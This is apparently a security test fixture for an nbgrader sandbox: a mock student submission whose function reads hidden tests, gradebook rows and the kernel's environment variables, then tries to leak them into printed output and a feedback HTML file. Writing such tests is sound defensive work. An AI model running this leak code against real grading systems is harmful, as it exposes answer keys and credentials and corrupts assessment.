"""A correct f, and in the same cell an attempt to leak what a student must never see into its
own feedback: the hidden tests and solutions of source/*/*.ipynb, the gradebook's grade_cell,
solution_cell and source_cell rows (the hidden tests again), and the kernel's environment
(COURSE_SECRET_CANARY, tokens, paths), printed into the cell's output and also written to an
HTML file beside the notebook (PWNED-leaks_secrets_into_feedback.html), which nbgrader might
carry into autograded/ and feedback/. What must happen: the kernel finds no course directory and
no secret in its environment, so its output holds no hidden test (no "BEGIN HIDDEN TESTS", no
"lstsq") and no canary value, no PWNED- file reaches autograded/ or feedback/, and this
submission scores full marks."""

LOSES = []

# %% f
import glob
import html
import os
import pathlib
import sqlite3


def _leak_secrets():
    mark = "PWNED" + "-leaks_secrets_into_feedback"
    here = pathlib.Path(os.getcwd()).resolve()
    leaked = []
    for folder in (here, *here.parents):
        for path in sorted(glob.glob(str(folder / "source" / "*" / "*.ipynb")))[:10]:
            text = pathlib.Path(path).read_text()
            start = text.find("lstsq")
            leaked.append(f"{path}: {len(text)} chars; hidden tests: {text[start - 600:start + 400]}")
        db = folder / "gradebook.db"
        if db.is_file():
            con = sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=2)
            try:
                for table in ("grade_cell", "solution_cell", "source_cell"):
                    try:
                        rows = con.execute(f"select * from {table} limit 40").fetchall()
                    except sqlite3.Error:
                        continue
                    leaked.append(f"{table}: " + repr(rows)[:4000])
            finally:
                con.close()
    leaked.append("environment: " + repr(dict(os.environ))[:4000])
    for text in leaked:
        print(text[:5000])
    page = here / f"{mark}.html"
    page.write_text(f"<html><!-- {mark} --><pre>{html.escape(chr(10).join(leaked))}</pre></html>")
    return len(leaked)


try:
    print(f"leaked {_leak_secrets()} items")
except Exception as error:
    print("blocked:", type(error).__name__)


def f(x):
    return (x - 0.5) ** 2
